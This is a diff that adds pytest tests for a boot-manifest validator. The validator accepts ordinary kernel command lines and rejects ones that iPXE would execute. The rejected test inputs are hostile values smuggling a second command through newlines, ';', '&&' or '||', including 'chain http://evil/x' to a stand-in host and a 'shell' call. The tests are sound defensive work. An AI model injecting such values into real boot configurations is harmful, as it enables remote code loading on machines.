@@ -88,3 +88,44 @@ def test_index_rules(entries, message):
 def test_index_annotations_must_be_strings():
     with pytest.raises(manifest.InvalidDocument, match="annotations"):
         manifest.build_index([entry("amd64", None)], {"n": 1})
+
+
+@pytest.mark.parametrize(
+    "cmdline",
+    [
+        "console=ttyS0 root=LABEL=ROOT",
+        "console=ttyS0,115200n8 ro quiet",
+        "init=/sbin/init a;b x&&y opt=#1 100%",
+        "",
+    ],
+)
+def test_ordinary_command_lines_pass_unchanged(cmdline):
+    assert manifest.check_command_line(cmdline) == cmdline
+
+
+@pytest.mark.parametrize("ending", ["\n", "\r\n", "\n\n"])
+def test_trailing_newline_of_legacy_images_is_trimmed(ending):
+    assert manifest.check_command_line("console=ttyS0 ro" + ending) == "console=ttyS0 ro"
+
+
+@pytest.mark.parametrize(
+    ("cmdline", "token", "reason"),
+    [
+        ("console=ttyS0\nchain http://evil/x", "'console=ttyS0\\nchain'", "control character"),
+        ("ro\timgfetch", "'ro\\timgfetch'", "control character"),
+        ("ro \x1b[2J", "'\\x1b[2J'", "control character"),
+        ("ro \x85x", "'\\x85x'", "control character"),
+        ("root=${root}", "'root=${root}'", "'$'"),
+        ("ro ; chain http://evil/x", "';'", "end iPXE's kernel command"),
+        ("ro && shell", "'&&'", "end iPXE's kernel command"),
+        ("ro || shell", "'||'", "end iPXE's kernel command"),
+        ("ro #hidden rest", "'#hidden'", "comment"),
+    ],
+)
+def test_command_lines_iPXE_would_run_are_refused(cmdline, token, reason):
+    with pytest.raises(manifest.UnsafeCommandLine) as caught:
+        manifest.check_command_line(cmdline)
+    message = str(caught.value)
+    assert "\n" not in message
+    assert message.startswith(token)
+    assert reason in message
